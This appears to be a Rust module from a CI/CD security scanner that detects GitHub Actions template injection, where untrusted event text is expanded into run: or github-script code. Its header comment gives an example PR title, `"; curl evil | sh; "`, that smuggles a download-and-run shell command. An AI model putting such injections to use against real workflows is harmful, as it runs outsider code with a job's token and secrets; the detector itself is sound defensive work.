//! `${{ }}` expressions with attacker-controlled values inside `run:` scripts and
//! `actions/github-script` scripts: the value is pasted into the code before the
//! shell (or Node) reads it, so a PR title such as `"; curl evil | sh; "` runs.

use crate::context::Context;
use crate::finding::Findings;
use crate::rule::{Layer, Rule, Severity, Stride, Threat};
use crate::yaml::Node;

use super::github::{Step, Workflow, all_steps, expressions, references};
use super::locate;

pub static RULE: Rule = Rule {
    id: "gha-template-injection",
    title: "Untrusted input expanded into a script",
    severity: Severity::High,
    stride: Stride::ElevationOfPrivilege,
    threat: Threat::CicdInjection,
    layer: Layer::Pipeline,
    why: "GitHub substitutes ${{ }} into the script text before it runs: an issue title, PR body, branch name or commit message written by an outsider becomes shell code running with the job's token and secrets.",
    fix: "- run: echo \"Title: $TITLE\"\n  env:\n    TITLE: ${{ github.event.pull_request.title }}   # data in a variable, quoted in the script",
    equivalents: &["zizmor template-injection", "CKV_GHA_2"],
};

/// Last path segments of `github.event.*` values that are numbers, ids, hashes,
/// booleans or times: not injectable.
const SAFE_FIELDS: &[&str] = &[
    "number",
    "id",
    "node_id",
    "sha",
    "head_sha",
    "base_sha",
    "before",
    "after",
    "run_id",
    "run_number",
    "run_attempt",
    "created_at",
    "updated_at",
    "closed_at",
    "merged_at",
    "draft",
    "merged",
    "forced",
    "size",
    "additions",
    "deletions",
    "changed_files",
    "comments",
    "action",
    "private",
    "fork",
];

pub fn check(cx: &Context<'_>, out: &mut Findings) {
    for step in all_steps(cx) {
        let workflow = step.in_workflow();
        for (where_, node) in scripts(&step) {
            let text = node.as_str().unwrap_or("");
            for (offset, expression) in expressions(text) {
                let nth = text[..offset].matches("${{").count();
                if let Some(value) = untrusted(expression, workflow.as_ref()) {
                    let pos = locate::occurrence(&step.file.text, node, "${{", nth);
                    let who = if value.contains("inputs.") {
                        "free text typed by whoever starts the workflow"
                    } else {
                        "text an outsider can choose"
                    };
                    let message = format!("{where_} expands {value}, {who}, into the code");
                    out.add(&RULE, &step.file.path, pos, step.subject.clone(), message);
                }
            }
        }
    }
}

/// The step's code: its `run:` script, or the `script:` of actions/github-script.
fn scripts<'a>(step: &Step<'a>) -> Vec<(&'static str, &'a Node)> {
    let mut out = Vec::new();
    if let Some(run) = step.run() {
        out.push(("run:", run));
    }
    if step.uses_action("actions/github-script")
        && let Some((_, script)) = step.input("script").filter(|(_, s)| s.as_str().is_some())
    {
        out.push(("github-script script:", script));
    }
    out
}

/// The first attacker-controlled value the expression reads, if any. Boolean
/// tests (`contains(...)`, comparisons) only yield true or false.
fn untrusted(expression: &str, workflow: Option<&Workflow<'_>>) -> Option<String> {
    let e = expression.trim();
    let boolean = ["contains(", "startsWith(", "endsWith(", "!"].iter().any(|f| e.starts_with(f))
        || ["==", "!=", "<=", ">=", " < ", " > "].iter().any(|op| e.contains(op));
    if boolean {
        return None;
    }
    references(e).into_iter().find(|r| untrusted_reference(r, workflow))
}

fn untrusted_reference(path: &str, workflow: Option<&Workflow<'_>>) -> bool {
    if path == "github.head_ref" {
        return true;
    }
    let input = path.strip_prefix("inputs.").or_else(|| path.strip_prefix("github.event.inputs."));
    if let Some(name) = input {
        return workflow.is_some_and(|w| free_text_dispatch_input(w, name));
    }
    if path == "github.event" {
        return true;
    }
    let Some(field) = path.strip_prefix("github.event.") else { return false };
    let last = field.rsplit('.').next().unwrap_or(field);
    !(SAFE_FIELDS.contains(&last) || last.ends_with("_id") || last.ends_with("_at") || field.starts_with("repository."))
}

/// A `workflow_dispatch` input typed `string` (the default): free text.
fn free_text_dispatch_input(workflow: &Workflow<'_>, name: &str) -> bool {
    let name = name.split('.').next().unwrap_or(name);
    let Some(input) = workflow.trigger("workflow_dispatch").and_then(|d| d.get("inputs")).and_then(|i| i.get(name))
    else {
        return false;
    };
    input.get("type").and_then(Node::as_str).is_none_or(|t| t == "string")
}
